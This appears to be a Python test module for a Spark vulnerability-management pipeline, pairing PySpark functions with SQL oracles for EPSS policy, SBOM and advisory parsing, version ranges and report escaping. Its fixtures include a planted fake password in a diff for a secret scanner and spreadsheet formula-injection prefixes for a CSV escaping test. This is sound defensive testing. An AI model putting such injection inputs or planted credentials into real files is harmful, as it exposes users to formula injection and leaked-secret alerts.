@query(f"""SELECT c.cve_id, CASE WHEN e.epss >= 0.1 OR k.ransomware = 'known' THEN 'failed' ELSE 'not_evaluable' END AS status, CASE WHEN e.epss IS NULL THEN 'not_evaluable' WHEN e.epss >= 0.1 THEN 'failed' ELSE 'passed' END AS epss_check
FROM (SELECT 'CVE-' || c_custkey AS cve_id FROM customer) c LEFT JOIN ({_EPSS}) e USING (cve_id) LEFT JOIN ({_KEV}) k USING (cve_id)""")
def exploitation_policy(spark: SparkSession, sf_dir: str) -> DataFrame:
    return enrich.exploitation_policy(_intelligence(spark, sf_dir)).select("cve_id", "status", "epss_check")


@query(f"SELECT 'CVE-' || s_suppkey AS cve_id, CASE WHEN count(DISTINCT advisory_id) = 0 THEN 'advisory-not-found' ELSE 'advisory-ambiguous' END AS reason FROM supplier LEFT JOIN ({_INDEX}) ON alias = 'CVE-' || s_suppkey GROUP BY s_suppkey HAVING count(DISTINCT advisory_id) <> 1")
def unresolved_enrichment(spark: SparkSession, sf_dir: str) -> DataFrame:
    cves = table(spark, sf_dir, "supplier").select(F.concat(F.lit("CVE-"), F.col("s_suppkey").cast("string")).alias("cve_id"))
    return enrich.resolved(cves, correlate.alias_index(advisories(spark, sf_dir)))[1].select("cve_id", "reason")


# Lifecycle and quality

@query("""WITH c AS (SELECT DISTINCT user_id AS fingerprint FROM events WHERE event_id % 2 = 0), b AS (SELECT DISTINCT user_id AS fingerprint FROM events WHERE event_id % 3 = 0)
SELECT coalesce(c.fingerprint, b.fingerprint) AS fingerprint, CASE WHEN b.fingerprint IS NULL THEN 'new' WHEN c.fingerprint IS NULL THEN 'resolved' ELSE 'existing' END AS state FROM c FULL JOIN b ON c.fingerprint = b.fingerprint""")
def vuln_delta(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = table(spark, sf_dir, "events").select("event_id", F.col("user_id").alias("fingerprint"))
    return lifecycle.delta(e.where("event_id % 2 = 0"), e.where("event_id % 3 = 0").select("fingerprint"))


@query(f"""WITH m AS (SELECT p_partkey, advisory_id, CAST(substr(advisory_id, 5) AS BIGINT) % 17 AS r FROM ({_MATCH}))
SELECT p_partkey, advisory_id, CASE WHEN r = 3 AND p_partkey % 2 = 0 THEN 'not_affected' END AS vex_status, (r = 3 AND p_partkey % 2 = 0) AS suppressed FROM m""")
def vex_annotate(spark: SparkSession, sf_dir: str) -> DataFrame:
    c = components(spark, sf_dir).withColumn("p_partkey", F.regexp_extract("purl", "@([0-9]+)$", 1).cast("long"))
    m = vuln.affected(c, packages(spark, sf_dir), keep=("p_partkey",))
    even = table(spark, sf_dir, "part").where("p_partkey % 2 = 0").select(F.lit("CVE-2020-3").alias("vulnerability"), F.array(F.concat(F.lit("pkg:generic/p@"), F.col("p_partkey").cast("string"))).alias("products"), F.lit("not_affected").alias("status"), F.lit("vulnerable_code_not_present").alias("justification"))
    none = spark.createDataFrame([], "fingerprint string, reason string")
    return lifecycle.annotate(m, even, none).select("p_partkey", "advisory_id", "vex_status", "suppressed")


@query("""SELECT CAST(o_orderkey AS VARCHAR) AS fingerprint, CAST('1996-01-01' AS DATE) >= CAST(o_orderdate AS DATE) AS expired, o_orderkey % 4 = 0 AS used FROM orders""")
def suppression_lifecycle(spark: SparkSession, sf_dir: str) -> DataFrame:
    o = table(spark, sf_dir, "orders").select(F.col("o_orderkey").cast("string").alias("fingerprint"), F.to_date("o_orderdate").alias("expires_at"))
    return lifecycle.suppression_lifecycle(o, o.where("cast(fingerprint as bigint) % 4 = 0"), "1996-01-01")


@query("SELECT n_regionkey AS family, CASE max(r) WHEN 3 THEN 'critical' WHEN 2 THEN 'high' WHEN 1 THEN 'medium' ELSE 'low' END AS severity, count(*) AS n FROM (SELECT n_regionkey, n_nationkey % 4 AS r FROM nation) GROUP BY n_regionkey")
def facts_aggregate(spark: SparkSession, sf_dir: str) -> DataFrame:
    pick = F.get(F.array(*map(F.lit, ("low", "medium", "high", "critical"))), F.col("n_nationkey") % 4)
    o = table(spark, sf_dir, "nation").select(F.col("n_regionkey").alias("family"), pick.alias("severity"), F.lit("high").alias("confidence"), F.concat(F.lit("obs-"), F.col("n_nationkey").cast("string")).alias("observation_id"))
    return lifecycle.facts(o, ["family"]).select("family", "severity", F.size("observation_ids").cast("long").alias("n"))


@query(f"SELECT count(DISTINCT file || '|' || line || '|' || {_FP.format(path='file')}) AS incidents FROM ({_HITS})")
def graph_incidents(spark: SparkSession, sf_dir: str) -> DataFrame:
    return lifecycle.graph(found(spark, sf_dir), "repo").agg(F.countDistinct("incident_id").alias("incidents"))


@query("""SELECT tp, fp, fn, tn, CAST(round(10000.0 * tp / (tp + fp)) AS BIGINT) AS precision_bp, CAST(round(10000.0 * tp / (tp + fn)) AS BIGINT) AS recall_bp FROM (SELECT count(*) FILTER (quality = 1 AND toxic = 1) AS tp,
count(*) FILTER (quality = 0 AND toxic = 1) AS fp, count(*) FILTER (quality = 1 AND toxic = 0) AS fn, count(*) FILTER (quality = 0 AND toxic = 0) AS tn FROM labels)""")
def benchmark_prf(spark: SparkSession, sf_dir: str) -> DataFrame:
    c = table(spark, sf_dir, "labels").select((F.col("quality") == 1).alias("expected"), (F.col("toxic") == 1).alias("observed"))
    s = quality.scores(quality.confusion(c))
    return s.select("tp", "fp", "fn", "tn", F.round(F.col("precision") * 10000).cast("long").alias("precision_bp"), F.round(F.col("recall") * 10000).cast("long").alias("recall_bp"))


@query("""SELECT event_type, min(value) FILTER (k >= ceil(0.5 * n)) AS p50, min(value) FILTER (k >= ceil(0.95 * n)) AS p95 FROM (SELECT event_type, value, row_number() OVER (PARTITION BY event_type ORDER BY value) AS k, count(*) OVER (PARTITION BY event_type) AS n FROM events) GROUP BY event_type""")
def latency_percentiles(spark: SparkSession, sf_dir: str) -> DataFrame:
    return quality.percentiles(table(spark, sf_dir, "events"), "value", (50, 95), ["event_type"])


@query("""SELECT count(*) FILTER (quality = 0 AND toxic = 1 AND doc_id % 2 = 0) AS new_fp, count(*) FILTER (quality = 1 AND toxic = 0 AND doc_id % 2 = 0) AS new_fn, count(*) FILTER (quality <> toxic AND doc_id % 2 = 0) = 0 AS passed FROM labels""")
def benchmark_regression(spark: SparkSession, sf_dir: str) -> DataFrame:
    c = table(spark, sf_dir, "labels").select(F.col("doc_id").alias("case_id"), (F.col("quality") == 1).alias("expected"), (F.col("toxic") == 1).alias("observed"))
    return quality.regression(c, c.where("case_id % 2 = 1"))


@query("""SELECT event_type AS tool, count(DISTINCT user_id) FILTER (user_id % 2 = 0) AS both, count(DISTINCT user_id) FILTER (user_id % 2 <> 0) AS tool_only,
(SELECT count(DISTINCT user_id) FROM events WHERE user_id % 2 = 0) - count(DISTINCT user_id) FILTER (user_id % 2 = 0) AS internal_only FROM events GROUP BY event_type""")
def external_comparison(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = table(spark, sf_dir, "events")
    return quality.compare_external(e.where("user_id % 2 = 0").select("user_id"), e.select(F.col("event_type").alias("tool"), F.col("user_id").alias("id")))


@query("SELECT source, count(*) AS records, CAST(round(1000000.0 * count(*) / (SELECT count(*) FROM documents)) AS BIGINT) AS share_ppm FROM documents GROUP BY source")
def source_coverage(spark: SparkSession, sf_dir: str) -> DataFrame:
    d = table(spark, sf_dir, "documents").groupBy("source").agg(F.count("*").alias("records"))
    return quality.source_coverage(d).select("source", "records", F.round(F.col("share") * 1000000).cast("long").alias("share_ppm"))


@query("SELECT o_orderstatus AS source, count(*) AS snapshots, max(o_orderpriority = '1-URGENT') AS active FROM orders GROUP BY o_orderstatus")
def source_status(spark: SparkSession, sf_dir: str) -> DataFrame:
    s = table(spark, sf_dir, "orders").select(F.col("o_orderstatus").alias("source"), F.col("o_orderkey").alias("snapshot_id"), F.when(F.col("o_orderpriority") == "1-URGENT", "active").otherwise("retired").alias("state"))
    return quality.source_status(s).select("source", "snapshots", "active")


@query(f"SELECT (SELECT count(*) FROM supplier) AS advisories, count(*) FILTER (s_suppkey % 10 = 9) AS withdrawn, count(DISTINCT s_suppkey % 17) AS unique_cves, count(*) AS packages, count(*) AS fixed_events FROM supplier")
def quality_metrics(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = packages(spark, sf_dir)
    return quality.advisory_metrics(p.select(F.col("advisory_id").alias("id"), "aliases", "withdrawn"), p).withColumn("fixed_events", F.col("fixed_events").cast("long"))


@query("""SELECT 'advisories' AS metric, count(*) AS value, CAST(50 AS BIGINT) AS minimum, CASE WHEN count(*) >= 50 THEN 'passed' ELSE 'failed' END AS status FROM supplier UNION ALL SELECT 'epss', -1, 1, 'not_evaluable'""")
def quality_thresholds(spark: SparkSession, sf_dir: str) -> DataFrame:
    return quality.thresholds(quality_metrics(spark, sf_dir), {"advisories": 50, "epss": 1}).withColumn("value", F.coalesce("value", F.lit(-1)))


# Sources and reports: every document stands for a file of a kind, whose text the SQL states, too

_FILES = (
    ("requirements.txt", "Flask==2.0 ; python_version > '3'\nrequests>=2\nnumpy\n-r more.txt\n"),
    ("a/go.mod", "module m\n\nrequire (\n\tgolang.org/x/a v1.2.3 // indirect\n)\nrequire example.com/b v0.1.0\n"),
    ("go.sum", "golang.org/x/a v1.2.3 h1:abc=\ngolang.org/x/c v1.0.0 h1:abc=\ngolang.org/x/a v1.2.3/go.mod h1:def=\n"),
    ("Cargo.lock", 'version = 3\n\n[[package]]\nname = "serde"\nversion = "1.0.1"\n'),
    ("poetry.lock", '[[package]]\nname = "Foo_Bar"\nversion = "1.0"\n'),
    ("uv.lock", '[[package]]\nname = "baz"\nversion = "3.1"\n'),
    ("composer.lock", '{"packages": [{"name": "v/p", "version": "v1.0"}], "packages-dev": []}'),
    ("package-lock.json", '{"lockfileVersion": 3, "packages": {"": {"version": "1"}, "node_modules/a": {"version": "1.2.3"}, "node_modules/a/node_modules/@s/b": {"version": "2.0.0"}}}'),
    ("old/package-lock.json", '{"lockfileVersion": 1, "dependencies": {"c": {"version": "3.0.0", "dependencies": {"d": {"version": "4.0.0"}}}}}'),
)
#: What each of the files holds: its number and the component's ecosystem, name and version.
_COMPONENT_ROWS = (
    (0, "pypi", "flask", "2.0"), (1, "golang", "golang.org/x/a", "v1.2.3"), (1, "golang", "example.com/b", "v0.1.0"), (2, "golang", "golang.org/x/a", "v1.2.3"), (2, "golang", "golang.org/x/c", "v1.0.0"), (3, "cargo", "serde", "1.0.1"), (4, "pypi", "foo-bar", "1.0"),
    (5, "pypi", "baz", "3.1"), (6, "composer", "v/p", "1.0"), (7, "npm", "a", "1.2.3"), (7, "npm", "@s/b", "2.0.0"), (8, "npm", "c", "3.0.0"), (8, "npm", "d", "4.0.0"),
)


def _inventory_of(spark: SparkSession, sf_dir: str, kind: str) -> DataFrame:
    """Rows of a kind of the documents' files, each in a folder of its own, named by the id."""
    own = per_document(spark, sf_dir, list(_FILES), "path string, text string")
    found = manifests.inventory(own.select(F.concat_ws("/", F.col("doc_id").cast("string"), "path").alias("path"), "text"), repositories=True).where(F.col("kind") == kind)
    return found.withColumn("doc_id", F.split("path", "/")[0].cast("long"))


@query(_per_document(list(_COMPONENT_ROWS), "ecosystem, name, version", len(_FILES), "ecosystem, name, version"))
def inventory_components(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _inventory_of(spark, sf_dir, "component").select("doc_id", "ecosystem", "name", "version")


@query(_per_document([(0, "requests", "version_range"), (0, "numpy", "version_unknown")], "name, reason", len(_FILES), "name, reason"))
def inventory_unresolved(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _inventory_of(spark, sf_dir, "unresolved").select("doc_id", "name", "reason")


def _texts(spark: SparkSession, sf_dir: str, text: str) -> DataFrame:
    """A text for each document, in which @@ is its id, by a path that is the id."""
    d = spread(table(spark, sf_dir, "documents").select(F.col("doc_id").cast("string").alias("path")))
    return d.withColumn("text", F.replace(F.lit(text), F.lit("@@"), F.col("path")))


@query("SELECT doc_id, n || doc_id AS name, ecosystem, reason AS reject_reason FROM documents, (VALUES ('a', 'npm', 'ok'), ('b', '?', 'missing name or version'), ('d', '?', 'repeated component'), ('d', '?', 'repeated component')) AS t(n, ecosystem, reason)")
def sbom_cyclonedx(spark: SparkSession, sf_dir: str) -> DataFrame:
    text = '{"bomFormat": "CycloneDX", "specVersion": "1.5", "components": [{"name": "a@@", "version": "1", "purl": "pkg:npm/a@@@1"}, {"name": "b@@", "version": ""}, {"name": "d@@", "version": "1"}, {"name": "d@@", "version": "1"}]}'
    return sbom.cyclonedx(_texts(spark, sf_dir, text)).select(F.col("path").cast("long").alias("doc_id"), "name", F.coalesce("ecosystem", F.lit("?")).alias("ecosystem"), F.coalesce("reject_reason", F.lit("ok")).alias("reject_reason"))


@query("SELECT doc_id, 'a' || doc_id AS name, CAST(doc_id AS VARCHAR) AS version, 'crates.io' AS ecosystem, 'pkg:cargo/a' || doc_id || '@' || doc_id AS purl FROM documents")
def sbom_spdx(spark: SparkSession, sf_dir: str) -> DataFrame:
    text = '{"spdxVersion": "SPDX-2.3", "packages": [{"name": "a@@", "versionInfo": "##", "externalRefs": [{"referenceType": "purl", "referenceLocator": "pkg:cargo/a@@%##"}]}]}'
    files = _texts(spark, sf_dir, text).withColumn("text", F.replace(F.replace("text", F.lit("##"), F.col("path")), F.lit("%"), F.lit("@")))
    return sbom.spdx(files).select(F.col("path").cast("long").alias("doc_id"), "name", "version", "ecosystem", "purl")


@query("SELECT doc_id, 't' || doc_id AS target, 'p' AS package, CAST(doc_id AS VARCHAR) AS version, 'CVE-' || doc_id AS vulnerability, 'high' AS severity FROM documents")
def evidence_trivy(spark: SparkSession, sf_dir: str) -> DataFrame:
    text = '{"SchemaVersion": 2, "Results": [{"Target": "t@@", "Type": "npm", "Vulnerabilities": [{"VulnerabilityID": "CVE-@@", "PkgName": "p", "InstalledVersion": "@@", "Severity": "HIGH"}]}]}'
    return sbom.trivy(_texts(spark, sf_dir, text)).select(F.col("path").cast("long").alias("doc_id"), "target", "package", "version", "vulnerability", "severity")


_GHSA_FORMS = (">= {k}, < {n}", "< {n}", ">= {k}, <= {n}", "= {k}", "<= {n}")


@query("""SELECT doc_id, CASE doc_id % 5 WHEN 0 THEN '>= ' || doc_id || ', < ' || (doc_id + 1) WHEN 1 THEN '< ' || (doc_id + 1) WHEN 2 THEN '>= ' || doc_id || ', <= ' || (doc_id + 1) WHEN 3 THEN '= ' || doc_id ELSE '<= ' || (doc_id + 1) END AS stated,
CASE doc_id % 5 WHEN 0 THEN doc_id || '|' || (doc_id + 1) || '|' WHEN 1 THEN '' WHEN 2 THEN doc_id || '||' WHEN 3 THEN doc_id || '||' || doc_id ELSE '0||' || (doc_id + 1) END AS events FROM documents""")
def ghsa_ranges(spark: SparkSession, sf_dir: str) -> DataFrame:
    k, n = F.col("doc_id").cast("string"), (F.col("doc_id") + 1).cast("string")
    d = per_document(spark, sf_dir, [(x,) for x in _GHSA_FORMS], "stated string").withColumn("stated", F.replace(F.replace("stated", F.lit("{k}"), k), F.lit("{n}"), n))
    e = feeds.ghsa_events(F.col("stated"))
    first = lambda k: F.coalesce(F.get(F.filter(F.transform(e, lambda x: x[k]), lambda v: v.isNotNull()), F.lit(0)), F.lit(""))
    return d.select("doc_id", "stated", F.when(e.isNull(), "").otherwise(F.concat_ws("|", first("introduced"), first("fixed"), first("last_affected"))).alias("events"))


_OSV = '{"vulns": [{"id": "OSV-@@", "modified": "2024", "affected": [{"package": {"ecosystem": "PyPI", "name": "Flask@@"}, "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.1"}]}], "versions": ["9"]}]}]}'


@query("SELECT doc_id, version, method FROM documents, (VALUES ('2.0', 'ecosystem-range'), ('9', 'exact-version')) AS t(version, method)")
def feed_osv_match(spark: SparkSession, sf_dir: str) -> DataFrame:
    adv = feeds.osv(feeds.records(_texts(spark, sf_dir, _OSV)))
    some = F.explode(F.array(F.lit("2.0"), F.lit("2.1"), F.lit("9"), F.lit(None).cast("string")))
    comps = _texts(spark, sf_dir, "flask@@").select(F.lit("pip").alias("ecosystem"), F.col("text").alias("name"), some.alias("version"), F.lit(None).cast("string").alias("purl"), F.lit("requirements.txt").alias("manifest_path"))
    return vuln.match(comps, feeds.packages(adv)).select(F.substring("name", 6, 20).cast("long").alias("doc_id"), "version", "method")


_FIXED = [(i, feed, versions.SAME.get(eco.lower(), eco.lower())) for i, (feed, eco) in enumerate(feeds.FIXED_FEEDS.items())]


@query(_per_document(_FIXED, "source, ecosystem", len(_FIXED), "t.source, 'pkg' || doc_id AS name, doc_id || '.0' AS fixed, ecosystem"))
def feed_fixed_versions(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Each document is a record of one of the feeds."""
    k = F.col("doc_id")
    record = F.to_json(F.struct(F.concat(F.lit("X-"), k.cast("string")).alias("id"), F.concat(F.lit("Pkg"), k.cast("string")).alias("package"), F.concat(k.cast("string"), F.lit(".0")).alias("fixed")))
    rows = spread(table(spark, sf_dir, "documents").select("doc_id", record.alias("record")))
    out = None
    for i, feed, _ in _FIXED:
        one = feeds.fixed_feed(rows.where(k % len(_FIXED) == i).select("record"), feed)
        one = one.select(F.substring("name", 4, 20).cast("long").alias("doc_id"), "source", "name", F.col("ranges")[0][1]["fixed"].alias("fixed"), "ecosystem")
        out = one if out is None else out.unionByName(one)
    return out


_DIFF = "diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,3 @@\n keep\n-old\n+password=abcdefgh\n+new {id}\ndiff --git a/n.txt b/n.txt\nnew file mode 100644\n--- /dev/null\n+++ b/n.txt\n@@ -0,0 +1 @@\n+hello\n"
_DIFF_ROWS = "(VALUES ('x.py', 'modify', 'context', 1, 'keep'), ('x.py', 'modify', 'removed', 2, 'old'), ('x.py', 'modify', 'added', 2, 'password=abcdefgh'), ('x.py', 'modify', 'added', 3, 'new '), ('n.txt', 'create', 'added', 1, 'hello')) AS t(path, operation, line_type, line, c)"


def _diffs(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A diff for each document, with the id on one of its lines."""
    d = spread(table(spark, sf_dir, "documents").select(F.col("doc_id").alias("diff_id")))
    return diff.diff_lines(diff.diff_files(d.withColumn("text", F.replace(F.lit(_DIFF), F.lit("{id}"), F.col("diff_id").cast("string")))))


@query(f"SELECT doc_id, path, operation, line_type, line, CASE c WHEN 'new ' THEN 'new ' || doc_id ELSE c END AS content FROM documents, {_DIFF_ROWS}")
def diff_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _diffs(spark, sf_dir).select(F.col("diff_id").cast("long").alias("doc_id"), "path", "operation", "line_type", "line", "content")


@query("SELECT doc_id, 'x.py' AS file, 2 AS line, 'CRT-SEC-014' AS rule_id FROM documents")
def scan_diff(spark: SparkSession, sf_dir: str) -> DataFrame:
    lines = _diffs(spark, sf_dir).where("line_type = 'added'")
    return scan.findings(lines, keep=("diff_id",)).select(F.col("diff_id").cast("long").alias("doc_id"), "file", "line", "rule_id")


@query("SELECT doc_id, CASE WHEN regexp_matches(ltrim(t), '^[=+\\-@]') THEN '''' || t ELSE t END AS cell FROM (SELECT doc_id, CASE doc_id % 4 WHEN 0 THEN '=' WHEN 1 THEN ' +' WHEN 2 THEN 'x=' ELSE '@' END || source AS t FROM documents)")
def report_csv_guard(spark: SparkSession, sf_dir: str) -> DataFrame:
    lead = F.get(F.array(*map(F.lit, ("=", " +", "x=", "@"))), (F.col("doc_id") % 4).cast("int"))
    return table(spark, sf_dir, "documents").select("doc_id", escape.csv_safe(F.concat(lead, "source")).alias("cell"))


@query("SELECT page_id, replace(replace(replace(replace(replace(url, '%', '%25'), chr(13), '%0D'), chr(10), '%0A'), ':', '%3A'), ',', '%2C') AS cell FROM pages")
def report_github_escape(spark: SparkSession, sf_dir: str) -> DataFrame:
    return table(spark, sf_dir, "pages").select("page_id", escape.github(F.col("url")).alias("cell"))


@query("SELECT s_nationkey, s_suppkey FROM (SELECT *, row_number() OVER (PARTITION BY s_nationkey ORDER BY s_acctbal DESC, s_suppkey) AS k FROM supplier) WHERE k <= 3")
def seed_top_of_each(spark: SparkSession, sf_dir: str) -> DataFrame:
    return snapshots.top_of_each(table(spark, sf_dir, "supplier"), "s_nationkey", [F.desc("s_acctbal"), "s_suppkey"], 3).select("s_nationkey", "s_suppkey")


#: Ranges and, in SQL over a version as a list of numbers, what they hold.
_NPM = {
    "^1.0.0": "v >= [1, 0, 0] AND v < [2, 0, 0]", "~1.2.0": "v >= [1, 2, 0] AND v < [1, 3, 0]", "~1.1.0": "v >= [1, 1, 0] AND v < [1, 2, 0]", ">=1.0.0 <1.2.3": "v >= [1, 0, 0] AND v < [1, 2, 3]", "1.x || 3.x": "v[1] IN (1, 3)",
    "1.2": "v[1] = 1 AND v[2] = 2", "^0.2.3": "v >= [0, 2, 3] AND v < [0, 3, 0]", "*": "true", "=1.2.3": "v = [1, 2, 3]",
}


@query("WITH p AS (SELECT p_partkey, [p_partkey % 4, p_partkey % 5, p_size % 6] AS v FROM part) " + " UNION ALL ".join(f"SELECT p_partkey, '{r}' AS range, {test} AS hit FROM p" for r, test in _NPM.items()))
def npm_ranges(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = F.col("p_partkey")
    p = spread(table(spark, sf_dir, "part").select(k, F.concat_ws(".", k % 4, k % 5, F.col("p_size") % 6).alias("v")))
    # a version is judged once, however many parts have it
    each = F.array(*[F.struct(F.lit(r).alias("range"), npm.in_range(F.col("v"), r).alias("hit")) for r in _NPM])
    judged = materialize(p.select("v").distinct().select("v", each.alias("each")), "judged")
    n = judged.count()
    out = p.join(F.broadcast(judged) if n <= 200_000 else judged, "v")
    return out.select(k, F.explode("each").alias("x")).select("p_partkey", "x.range", "x.hit")
